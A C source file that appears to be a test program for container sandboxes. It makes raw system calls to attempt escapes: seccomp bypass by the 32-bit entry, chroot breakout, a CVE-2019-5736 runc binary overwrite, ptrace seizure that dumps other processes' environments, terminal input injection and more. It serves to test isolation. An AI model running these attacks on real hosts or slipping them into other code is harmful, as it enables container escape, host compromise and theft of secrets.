/* The attacks of a hostile program in a container, with raw system calls, without a C library in between.
 *   attack syscalls            one line for each forbidden call: its name and the errno
 *   attack write PATH          opens PATH for writing and writes a line there
 *   attack chroot PATH         leaves a chroot by a directory held open, then looks for PATH
 *   attack abstract NAME       connects to an abstract socket
 *   attack packets             opens sockets that receive all packets of the network
 *   attack descriptors         lists its open descriptors
 *   attack trace PID           attaches to a process
 *   attack type                types into the terminal on stdin
 *   attack overwrite           writes to the program of every process it sees
 *   attack seize PATH          stops every process that enters, and prints what it is and whether PATH is below its root
 *   attack inodes              changes mode, owner, times and attributes of the roots of its mounts, its devices and its
 *                              descriptors; one line for each success: device, inode, path */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

static void report(const char *name, long result) {
    printf("%s %s\n", name, result < 0 ? strerrorname_np(errno) : "DONE");
}

#define TRY(name, ...) report(name, syscall(__VA_ARGS__))

#ifdef __x86_64__
/* The same call by the entry of 32-bit programs, which a filter of 64-bit numbers alone would not check. */
static long old_entry(long number, long first) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(0), "d"(0), "S"(0), "D"(0) : "memory", "r8", "r9", "r10", "r11");
    if (result < 0) { errno = (int)-result; return -1; }
    return result;
}
#endif

static void syscalls(void) {
    static char handle[64] = {8, 0, 0, 0, 1};
    TRY("mount", SYS_mount, "none", "/tmp", "tmpfs", 0, 0);
    TRY("bind", SYS_mount, "/", "/tmp", 0, 4096, 0);
    TRY("remount", SYS_mount, 0, "/proc/sys", 0, 32 | 4096, 0);
    TRY("umount2", SYS_umount2, "/proc/kcore", 0);
    TRY("pivot_root", SYS_pivot_root, "/", "/tmp");
    TRY("unshare-user", SYS_unshare, 0x10000000);
    TRY("unshare-mount", SYS_unshare, 0x20000);
    TRY("clone-user", SYS_clone, 0x10000000 | 17, 0, 0, 0, 0);
    TRY("setns", SYS_setns, open("/proc/self/ns/mnt", O_RDONLY), 0);
    TRY("fsopen", SYS_fsopen, "tmpfs", 0);
    TRY("open_tree", SYS_open_tree, AT_FDCWD, "/", 1);
    TRY("move_mount", SYS_move_mount, -1, "", -1, "", 0);
    TRY("mount_setattr", SYS_mount_setattr, -1, "", 0, 0, 0);
    TRY("mknod", SYS_mknodat, AT_FDCWD, "/tmp/disk", S_IFBLK | 0600, 8 << 8);
    TRY("kexec_load", SYS_kexec_load, 0, 0, 0, 0);
    TRY("kexec_file_load", SYS_kexec_file_load, -1, -1, 0, 0, 0);
    TRY("bpf", SYS_bpf, 0, 0, 0);
    TRY("init_module", SYS_init_module, "", 0, "");
    TRY("finit_module", SYS_finit_module, -1, "", 0);
    TRY("delete_module", SYS_delete_module, "overlay", 0);
    TRY("reboot", SYS_reboot, 0xfee1dead, 672274793, 0, 0);
    TRY("swapon", SYS_swapon, "/dev/null", 0);
    TRY("acct", SYS_acct, "/tmp/acct");
    TRY("open_by_handle_at", SYS_open_by_handle_at, AT_FDCWD, handle, O_RDONLY);
    TRY("perf_event_open", SYS_perf_event_open, 0, 0, -1, -1, 0);
    TRY("userfaultfd", SYS_userfaultfd, 0);
    TRY("io_uring_setup", SYS_io_uring_setup, 1, 0);
    TRY("keyctl", SYS_keyctl, 0, 0, 0, 0, 0);
    TRY("add_key", SYS_add_key, "user", "a", "b", 1, -4);
    TRY("settimeofday", SYS_settimeofday, 0, 0);
    TRY("clock_settime", SYS_clock_settime, 0, 0);
    TRY("syslog", SYS_syslog, 5, 0, 0);
    TRY("quotactl", SYS_quotactl, 0, 0, 0, 0);
    TRY("fanotify_init", SYS_fanotify_init, 0, 0);
    TRY("personality", SYS_personality, 0x40000);
    TRY("socket-vsock", SYS_socket, 40, 1, 0);
    TRY("socket-alg", SYS_socket, 38, 5, 0);
    TRY("socket-alg-high", SYS_socket, (1L << 32) | 38, 5, 0);
    TRY("sethostname", SYS_sethostname, "x", 1);
#ifdef __x86_64__
    TRY("iopl", SYS_iopl, 3);
    TRY("x32-unshare", 0x40000000 | SYS_unshare, 0x10000000);
    report("old-unshare", old_entry(310, 0x10000000));
    report("old-mount", old_entry(21, 0));
#endif
    TRY("clone3", SYS_clone3, 0, 0);
    TRY("future", 5000);
}

static void write_to(const char *path) {
    int file = open(path, O_WRONLY);
    report(path, file < 0 ? -1 : write(file, "1\n", 2));
}

static void leave_chroot(const char *path) {
    mkdir("/tmp/jail", 0755);
    int held = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/jail") < 0 || fchdir(held) < 0) { report("chroot", -1); return; }
    for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
    if (chroot(".") < 0) { report("chroot", -1); return; }
    report("found", access(path, F_OK));
    /* It is its own root and no more. */
    report("own", access("/etc/alpine-release", F_OK));
}

static void abstract(const char *name) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    memcpy(address.sun_path + 1, name, strlen(name));
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    report("connect", connect(fd, (struct sockaddr *)&address, sizeof(sa_family_t) + 1 + strlen(name)));
}

static void packets(void) {
    TRY("packet", SYS_socket, AF_PACKET, SOCK_RAW, 0x300);
    TRY("raw", SYS_socket, AF_INET, SOCK_RAW, 6);
}

static void descriptors(void) {
    for (int fd = 3; fd < 1024; fd++) {
        char link[64], target[256] = "";
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        if (readlink(link, target, sizeof target - 1) > 0) printf("%d %s\n", fd, target);
    }
}

/* CVE-2019-5736: hold the program of a process that enters, and write to it after that process has ended. */
static void overwrite(void) {
    for (int round = 0; round < 2000; round++) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));) {
            char path[300];
            if (atoi(entry->d_name) <= 0 || atoi(entry->d_name) == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int held = open(path, O_PATH | O_CLOEXEC);
            if (held < 0) continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", held);
            char program[300];
            ssize_t length = readlink(path, program, sizeof program);
            for (int i = 0; i < 20; i++) {
                int file = open(path, O_WRONLY | O_CLOEXEC);
                if (file < 0) continue;
                if (write(file, "#!/bin/false\n", 13) > 0) printf("OVERWRITTEN %.*s\n", (int)length, program);
                close(file);
            }
            close(held);
        }
        if (processes) closedir(processes);
        usleep(1000);
    }
}

static void show(int pid, const char *file) {
    char path[64], text[4096];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
    if (fd >= 0) close(fd);
    for (ssize_t at = 0; at < length; at++) if (!text[at]) text[at] = ' ';
    text[length > 0 ? length : 0] = 0;
    if (strcmp(file, "status")) { printf("%s %s\n", file, text); return; }
    for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n"))
        if (!strncmp(line, "CapEff:", 7) || !strncmp(line, "CapBnd:", 7) || !strncmp(line, "Seccomp:", 8)) printf("%s\n", line);
}

/* Stops a process that enters from outside, as soon as there is one, until the file /end exists. */
static void seize(const char *object) {
    int own = getpid();
    while (access("/end", F_OK)) for (int pid = own + 1; pid < own + 200; pid++) {
        if (ptrace(PTRACE_SEIZE, pid, 0, 0)) continue;
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        int status;
        waitpid(pid, &status, __WALL);
        char path[4400];
        snprintf(path, sizeof path, "/proc/%d/root%s", pid, object);
        puts("SEIZED");
        if (!access(path, F_OK)) printf("REACHED %s\n", object);
        show(pid, "status");
        show(pid, "cmdline");
        show(pid, "environ");
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

static void change(const char *path) {
    struct stat found;
    if (stat(path, &found)) return;
    int changed = !chmod(path, found.st_mode & 07777);
    changed |= !chown(path, found.st_uid, found.st_gid);
    changed |= !utimensat(AT_FDCWD, path, NULL, 0);
    changed |= !setxattr(path, "user.attack", "x", 1, 0);
    if (changed) printf("%u:%u %lu %s\n", major(found.st_dev), minor(found.st_dev), (unsigned long)found.st_ino, path);
}

static void change_entries(const char *directory) {
    DIR *entries = opendir(directory);
    for (struct dirent *entry; entries && (entry = readdir(entries));) {
        char path[600];
        snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
        if (entry->d_name[0] != '.' && (!entries || atoi(entry->d_name) != dirfd(entries))) change(path);
    }
    if (entries) closedir(entries);
}

static void inodes(void) {
    char line[4096], place[4096];
    FILE *mounts = fopen("/proc/self/mountinfo", "re");
    while (mounts && fgets(line, sizeof line, mounts))
        if (sscanf(line, "%*s %*s %*s %*s %4095s", place) == 1) change(place);
    if (mounts) fclose(mounts);
    change_entries("/dev");
    change_entries("/proc/self/fd");
    change_entries("/proc/1/fd");
}

int main(int count, char **words) {
    const char *what = count > 1 ? words[1] : "", *object = count > 2 ? words[2] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(what, "syscalls")) syscalls();
    else if (!strcmp(what, "write")) for (int i = 2; i < count; i++) write_to(words[i]);
    else if (!strcmp(what, "chroot")) leave_chroot(object);
    else if (!strcmp(what, "abstract")) abstract(object);
    else if (!strcmp(what, "packets")) packets();
    else if (!strcmp(what, "descriptors")) descriptors();
    else if (!strcmp(what, "trace")) report("attach", ptrace(PTRACE_ATTACH, atoi(object), 0, 0));
    else if (!strcmp(what, "type")) { ioctl(0, TIOCSCTTY, 1); report("type", ioctl(0, TIOCSTI, "x")); }
    else if (!strcmp(what, "overwrite")) overwrite();
    else if (!strcmp(what, "seize")) seize(object);
    else if (!strcmp(what, "inodes")) inodes();
    else return 2;
    return 0;
}
